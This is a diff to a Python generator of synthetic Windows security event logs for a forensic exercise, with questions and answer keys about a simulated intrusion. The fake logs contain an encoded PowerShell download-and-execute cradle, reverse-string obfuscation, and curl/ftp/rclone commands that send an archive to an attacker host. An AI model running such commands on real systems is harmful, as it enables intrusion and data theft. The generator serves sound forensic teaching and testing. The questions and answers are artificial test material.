@@ -1,217 +1,218 @@
-"""The log of one workstation: Windows security events of a night in which somebody got in, stayed and tidied up."""
+"""The log of one workstation: days of Windows security events, with a night in which somebody got in and stayed.
+
+By the seed, the intruder guesses a password over remote desktop, comes from another machine with a stolen one, or takes
+over without a failure; stays by a service, a task or an account; hides what was done by clearing the log or by removing
+one record. Administrators install services, create accounts and run encoded commands, too.
+"""
 
 import base64
 from collections.abc import Mapping
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 
-from swaplaw_forensic.synthetic.case import Asked, Case, choose
+from swaplaw_forensic.synthetic.case import DAYS, Asked, Case, choose, counted, said, timed, working_days
 from swaplaw_forensic.synthetic.dice import Dice
 from swaplaw_forensic.synthetic.formats.evtx import Event, log
-from swaplaw_forensic.synthetic.words import FIRST_NAMES
+from swaplaw_forensic.synthetic.words import FIRST_NAMES, STEMS, bad_host
 
-SERVICES = ("PrintWatch", "AudioRelay", "DiskTune", "NetAssist", "FontHost", "TimeKeeper")
+SERVICES = ("PrintWatch", "AudioRelay", "DiskTune", "NetAssist", "FontHost", "TimeKeeper", "CacheMon", "LinkSync")
 GROUPS = ("Administrators", "Remote Desktop Users", "Backup Operators")
 PROGRAMS = ("explorer.exe", "OUTLOOK.EXE", "chrome.exe", "notepad.exe", "WINWORD.EXE", "svchost.exe")
+SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+ENTRIES, STAYS, TIDYINGS = ("guess", "sideways", "quiet"), ("service", "task", "account"), ("gap", "cleared")
+EVENTS_A_DAY = 500
 
 
 @dataclass
-class Workstation:
-    """A workstation in the making: its clock, its people and its events."""
+class Station:
+    """A workstation in the making."""
 
     dice: Dice
-    clock: datetime
     name: str
     people: list[str]
-    number: int
-    events: list[Event] = field(default_factory=list)
+    events: list[tuple[datetime, int, Mapping[str, str]]] = field(default_factory=list)
+    leases: list[tuple[datetime, str]] = field(default_factory=list)
 
-    def wait(self, low: int, high: int) -> datetime:
-        """Let some seconds pass."""
-        self.clock += timedelta(seconds=self.dice.between(low, high))
-        return self.clock
-
-    def note(self, event: int, data: Mapping[str, str]) -> None:
+    def note(self, when: datetime, event: int, **data: str) -> None:
         """Add an event."""
-        self.events.append(Event(self.number, event, self.clock, data))
-        self.number += 1
+        self.events.append((when, event, data))
 
-    def logon(self, event: int, user: str, kind: int, address: str) -> None:
+    def logon(self, when: datetime, event: int, user: str, kind: int, address: str) -> None:
         """Add a log-on (4624) or a failed one (4625)."""
-        self.note(
-            event,
-            {"TargetUserName": user, "TargetDomainName": self.name, "LogonType": str(kind), "IpAddress": address},
-        )
+        self.note(when, event, TargetUserName=user, TargetDomainName=self.name, LogonType=str(kind), IpAddress=address)
+
+    def run(self, when: datetime, user: str, program: str, command: str) -> None:
+        """Add the start of a program."""
+        self.note(when, 4688, SubjectUserName=user, NewProcessName=program, CommandLine=command)
 
 
-def build(dice: Dice) -> Case:
-    """Build the log and its questions."""
-    clock = datetime(2026, dice.between(1, 9), dice.between(1, 28), dice.between(0, 9), tzinfo=UTC)
-    name = f"WS-{dice.word(5, 'ABCDEFGHKLMNPRSTUVW')}{dice.between(10, 99)}"
-    people = [name.lower() for name in dice.pick_some(FIRST_NAMES, 5)]
-    station = Workstation(dice, clock, name, people, dice.between(1200, 90_000))
-    attacker = f"203.0.113.{dice.between(2, 250)}"
-    _office(station)
-    pool = _entry(station, attacker)
-    pool += _stay(station)
-    pool += _program(station)
-    _office(station)
-    pool += _tidying(station)
-    file = f"{dice.word(8)}.{dice.pick(('evtx', 'bin', 'log'))}"
-    prompt = (
-        f"/evidence/{file} is the security event log (EVTX) of a Windows workstation that was reached over remote "
-        "desktop. Find out what happened. Give times in UTC."
+def build(dice: Dice, level: int) -> Case:
+    """Tell the story and its questions."""
+    start = datetime(2026, dice.between(1, 8), dice.between(1, 20), tzinfo=UTC)
+    station = Station(
+        dice,
+        f"WS-{dice.word(5, 'ABCDEFGHKLMNPRSTUVW')}{dice.between(10, 99)}",
+        [name.lower() for name in dice.pick_some(FIRST_NAMES, 7)],
     )
-    return Case({file: log(station.events, name)}, prompt, choose(dice, pool, leave_out=2))
+    night = start + timedelta(days=DAYS[level] - 1, seconds=dice.between(3600, 5 * 3600))
+    entry, stay, tidying = dice.pick(ENTRIES), dice.pick(STAYS), dice.pick(TIDYINGS)
+    _office(station, start, DAYS[level])
+    pool = _entry(station, entry, night, level)
+    pool += _stay(station, stay, night + timedelta(minutes=dice.between(5, 20)))
+    pool += _program(station, night + timedelta(minutes=dice.between(25, 40)), level)
+    ordered = sorted(station.events, key=lambda row: row[0])
+    first = dice.between(1200, 90_000)
+    ordinary = [n for n, row in enumerate(ordered) if "Program Files" in row[2].get("CommandLine", "")]
+    gone = dice.pick(ordinary[len(ordinary) // 3 : -20])
+    if tidying == "gap":
+        pool.append(counted("missing", "One record was removed from the log. Which event record number is missing?",
+                            first + gone, 3))  # fmt: skip
+    else:
+        when = night + timedelta(minutes=dice.between(50, 80))
+        ordered.append((when, 1102, {"SubjectUserName": station.people[0]}))
+        ordered.sort(key=lambda row: row[0])
+        pool.append(timed("cleared", "When was the log cleared by the intruder's account (UTC)?", when, 2, "account"))
+    numbered = [Event(first + n, *_event(row)) for n, row in enumerate(ordered) if tidying != "gap" or n != gone]
+    names = [f"{dice.word(8)}.{dice.pick(('evtx', 'bin', 'log'))}", *([f"{dice.word(8)}.csv"] if level == 3 else [])]
+    prompt = (
+        f"/evidence/{names[0]} is the security event log (EVTX) of a Windows workstation that an intruder used one "
+        "night, with the account of somebody who works there. Give times in UTC."
+    )
+    if level == 3:
+        prompt += (
+            f" Addresses in it are those that the VPN gave out; /evidence/{names[1]} is the log of the VPN (time, "
+            "address given out, public address, account), where one address serves many in turn."
+        )
+    leases = ("\n".join(f"{when:%Y-%m-%dT%H:%M:%SZ},{text}" for when, text in sorted(station.leases)) + "\n").encode()
+    procedure = {"entry": entry, "stay": stay, "tidying": tidying}
+
+    def make() -> tuple[bytes, ...]:
+        written = log(numbered, station.name)
+        return (written, leases) if level == 3 else (written,)
+
+    return Case(tuple(names), prompt, choose(dice, pool, leave_out=1), make, procedure)
 
 
-def _office(station: Workstation) -> None:
-    """Add ordinary hours: log-ons at the desk and over the network, mistyped passwords, programs."""
-    dice = station.dice
-    for _ in range(dice.between(18, 30)):
-        station.wait(20, 900)
-        person = dice.pick(station.people)
-        what = dice.below(4)
-        if what == 0:
-            station.logon(4624, person, 2, "127.0.0.1")
-        elif what == 1:
-            station.logon(4624, person, 3, f"10.20.0.{dice.between(2, 60)}")
-        elif what == 2:
-            station.logon(4625, person, 2, "127.0.0.1")
+def _event(row: tuple[datetime, int, Mapping[str, str]]) -> tuple[int, datetime, Mapping[str, str]]:
+    return row[1], row[0], row[2]
+
+
+def _office(station: Station, start: datetime, days: int) -> None:
+    """Fill the days with people at work, and with administrators who do what intruders do, for good reasons."""
+    dice, admin = station.dice, station.people[1]
+    for when in working_days(dice, start, days, EVENTS_A_DAY):
+        person, what = dice.pick(station.people), dice.below(10)
+        if what < 3:
+            station.logon(when, 4624, person, 2, "127.0.0.1")
+        elif what < 5:
+            station.logon(
+                when,
+                4624,
+                person,
+                dice.pick((3, 10)),
+                _lease(station, when, person, f"198.51.100.{dice.between(2, 250)}"),
+            )
+        elif what < 6:
+            station.logon(
+                when,
+                4625,
+                person,
+                dice.pick((2, 10)),
+                _lease(station, when, person, f"198.51.100.{dice.between(2, 250)}"),
+            )
         else:
             program = f"C:\\Program Files\\{dice.pick(PROGRAMS)}"
-            station.note(4688, {"SubjectUserName": person, "NewProcessName": program, "CommandLine": program})
+            station.run(when, person, program, program)
+    for when in working_days(dice, start, days, 3):
+        service = f"{dice.pick(SERVICES)}{dice.between(2, 9)}"
+        station.note(when, 4697, ServiceName=service, ServiceFileName=f"C:\\Program Files\\{service}\\{service}.exe",
+                     SubjectUserName=admin)  # fmt: skip
+        station.note(when, 4698, TaskName=f"\\Inventory{dice.word(3)}", TaskContent="C:\\Tools\\inventory.exe",
+                     SubjectUserName=admin)  # fmt: skip
+        station.note(when, 4720, TargetUserName=f"temp{dice.word(4)}", SubjectUserName=admin)
+        command = f"Invoke-WebRequest https://intranet.example/{dice.word(5)}.ps1"
+        station.run(when, admin, SHELL, f"powershell.exe -enc {_encoded(command)}")
+    for when in working_days(dice, start, days, 6):
+        station.logon(when, 4625, dice.pick(("administrator", "admin", "guest")), 10, f"10.20.9.{dice.between(2, 9)}")
 
 
-def _entry(station: Workstation, attacker: str) -> list[Asked]:
+def _lease(station: Station, when: datetime, person: str, public: str) -> str:
+    """Give out an address of the VPN for a while."""
+    inside = f"10.20.0.{station.dice.between(2, 60)}"
+    station.leases.append((when - timedelta(seconds=station.dice.between(5, 60)), f"{inside},{public},{person}"))
+    return inside
+
+
+def _entry(station: Station, entry: str, night: datetime, level: int) -> list[Asked]:
     dice, victim = station.dice, station.people[0]
-    failed = dice.between(12, 30)
+    outside = f"203.0.113.{dice.between(2, 250)}"
+    seen = _lease(station, night, victim, outside) if level == 3 else outside
+    when, failed = night, dice.between(12, 60) if entry == "guess" else 0
     for _ in range(failed):
-        station.wait(1, 6)
-        station.logon(4625, dice.pick((victim, victim, "administrator", "admin")), 10, attacker)
-    for _ in range(dice.between(1, 3)):
-        station.wait(1, 9)
-        station.logon(4625, dice.pick(station.people), 10, f"198.51.100.{dice.between(2, 250)}")
-    when = station.wait(2, 9)
-    station.logon(4624, victim, 10, attacker)
-    return [
-        Asked(
-            "origin",
-            "From which IP address was the workstation entered over remote desktop (log-on type 10)?",
-            "text",
-            "exact",
-            {"accept": [attacker]},
-        ),
-        Asked(
-            "entered-as",
-            "Which account was used to log on over remote desktop?",
-            "text",
-            "normalised",
-            {"accept": [victim]},
-        ),
-        Asked(
-            "entered",
-            "When did the log-on over remote desktop succeed (UTC)?",
-            "time",
-            "time",
-            {"accept": [f"{when:%Y-%m-%dT%H:%M:%S}Z"], "tolerance": 1},
-        ),
-        Asked(
-            "failures",
-            "How many log-ons from the address of the intruder failed?",
-            "number",
-            "number",
-            {"accept": [str(failed)]},
-            level=2,
-            builds_on="origin",
-        ),
-    ]
+        when += timedelta(seconds=dice.between(1, 6))
+        station.logon(when, 4625, victim, 10, seen)
+    when += timedelta(seconds=dice.between(2, 9))
+    station.logon(when, 4624, victim, 3 if entry == "sideways" else 10, seen)
+    pool = [
+        said("account", "Whose account did the intruder use?", victim, level=2),
+        said("address", "From which public IP address did the intruder come?", outside, tier="exact",
+             level=level, on="account"),
+        timed("entered", "When did the intruder's log-on succeed (UTC)?", when, 2, "account"),
+        counted("type", "Which log-on type had the intruder's log-on?", 3 if entry == "sideways" else 10, 1, "entered"),
+    ]  # fmt: skip
+    if failed:
+        text = "How many log-ons on that account failed in the hour before the intruder got in?"
+        pool.append(counted("failures", text, failed, 2, "account"))
+    return pool
 
 
-def _stay(station: Workstation) -> list[Asked]:
-    """Create an account, put it into a group, install a service."""
+def _stay(station: Station, stay: str, when: datetime) -> list[Asked]:
+    """Create what brings the intruder back."""
     dice, victim = station.dice, station.people[0]
-    account, group = f"{dice.pick(('help', 'scan', 'temp'))}{dice.word(4)}", dice.pick(GROUPS)
-    when = station.wait(60, 200)
-    station.note(4720, {"TargetUserName": account, "SubjectUserName": victim})
-    station.wait(2, 30)
-    station.note(4732, {"TargetUserName": group, "MemberName": account, "SubjectUserName": victim})
-    station.wait(20, 200)
-    good, service = dice.pick_some(SERVICES, 2)
     path = f"C:\\Users\\Public\\{dice.word(6)}\\{dice.word(5)}.exe"
-    station.note(4697, {"ServiceName": service, "ServiceFileName": path, "SubjectUserName": victim})
-    station.wait(300, 900)
-    station.note(
-        4697,
-        {"ServiceName": good, "ServiceFileName": f"C:\\Windows\\System32\\{good}.exe", "SubjectUserName": "SYSTEM"},
-    )
-    return [
-        Asked("account", "Which account was created?", "text", "normalised", {"accept": [account]}),
-        Asked(
-            "account-when",
-            "When was the new account created (UTC)?",
-            "time",
-            "time",
-            {"accept": [f"{when:%Y-%m-%dT%H:%M:%S}Z"], "tolerance": 1},
-        ),
-        Asked(
-            "group",
-            "Into which group was the new account put?",
-            "text",
-            "normalised",
-            {"accept": [group]},
-            level=2,
-            builds_on="account",
-        ),
-        Asked(
-            "service",
-            "Which service was installed by the account that was used over remote desktop?",
-            "text",
-            "normalised",
-            {"accept": [service]},
-            level=2,
-            builds_on="entered-as",
-        ),
-        Asked(
-            "service-file",
-            "What is the full path of the program of that user's service?",
-            "text",
-            "normalised",
-            {"accept": [path]},
-            level=2,
-            builds_on="service",
-        ),
-    ]
+    if stay == "account":
+        account, group = f"temp{dice.word(4)}", dice.pick(GROUPS)
+        station.note(when, 4720, TargetUserName=account, SubjectUserName=victim)
+        later = when + timedelta(seconds=dice.between(5, 50))
+        station.note(later, 4732, TargetUserName=group, MemberName=account, SubjectUserName=victim)
+        return [
+            said("created", "Which account did the intruder create?", account, level=2, on="account"),
+            said("group", "Into which group was the intruder's new account put?", group, level=2, on="created"),
+        ]
+    if stay == "task":
+        task = f"\\Inventory{dice.word(3)}"
+        station.note(when, 4698, TaskName=task, TaskContent=path, SubjectUserName=victim)
+        name = said("task", "Which scheduled task did the intruder create?", task, task[1:], level=2, on="account")
+    else:
+        service = f"{dice.pick(SERVICES)}{dice.between(2, 9)}"
+        station.note(when, 4697, ServiceName=service, ServiceFileName=path, SubjectUserName=victim)
+        name = said("service", "Which service did the intruder install?", service, level=2, on="account")
+    return [name, said("path", f"What is the full path of the program that the {stay} starts?", path, level=2, on=stay)]
 
 
-def _program(station: Workstation) -> list[Asked]:
-    """Start an encoded command."""
-    dice = station.dice
-    url = f"http://{dice.word(7)}.{dice.pick(('top', 'xyz', 'icu'))}/{dice.word(4)}/{dice.word(3)}.ps1"
+def _program(station: Station, when: datetime, level: int) -> list[Asked]:
+    """Run an encoded command, then send an archive away."""
+    dice, victim = station.dice, station.people[0]
+    url = f"http://{bad_host(dice)}/{dice.word(4)}/{dice.word(3)}.ps1"
     command = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
-    coded = base64.b64encode(command.encode("utf-16-le")).decode()
-    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-    station.wait(60, 400)
-    station.note(
-        4688,
-        {
-            "SubjectUserName": station.people[0],
-            "NewProcessName": shell,
-            "CommandLine": f"powershell.exe -nop -w hidden -enc {coded}",
-        },
-    )
-    question = "From which URL does the encoded PowerShell command load its script?"
-    return [Asked("url", question, "text", "normalised", {"accept": [url]}, level=3)]
+    if level == 3:
+        command = f"IEX ('{command[::-1].replace(chr(39), chr(39) * 2)}'[-1..-{len(command)}] -join '')"
+    station.run(when, victim, SHELL, f"powershell.exe -nop -w hidden -enc {_encoded(command)}")
+    archive, target = f"{dice.pick(STEMS)}_{dice.word(4)}.7z", bad_host(dice)
+    ways = {
+        "curl": f"curl.exe -s -T C:\\Users\\Public\\{archive} https://{target}/in/",
+        "ftp": f"ftp.exe -A -s:C:\\Users\\Public\\{archive}.txt {target}",
+        "rclone": f"rclone.exe copy C:\\Users\\Public\\{archive} drop: --sftp-host {target}",
+    }
+    way = dice.pick(sorted(ways))
+    station.run(when + timedelta(minutes=6), victim, f"C:\\Windows\\System32\\{way}.exe", ways[way])
+    return [
+        said("url", "From which URL does the intruder's encoded PowerShell command load its script?", url, level=3,
+             on="account"),
+        said("target", "To which host was an archive sent?", target, level=2, on="account"),
+        said("archive", "What is the file name of that archive?", archive, f"{archive}.txt", level=2, on="target"),
+    ]  # fmt: skip
 
 
-def _tidying(station: Workstation) -> list[Asked]:
-    """Remove an ordinary record from the middle: its number is missing."""
-    ordinary = [
-        event
-        for event in station.events[5:-5]
-        if event.data.get("LogonType") in ("2", "3") or "Program Files" in event.data.get("NewProcessName", "")
-    ]
-    removed = station.dice.pick(ordinary)
-    station.events.remove(removed)
-    question = "One record was removed from the log. Which event record number is missing?"
-    return [Asked("missing", question, "number", "number", {"accept": [str(removed.number)]}, level=3)]
+def _encoded(command: str) -> str:
+    return base64.b64encode(command.encode("utf-16-le")).decode()
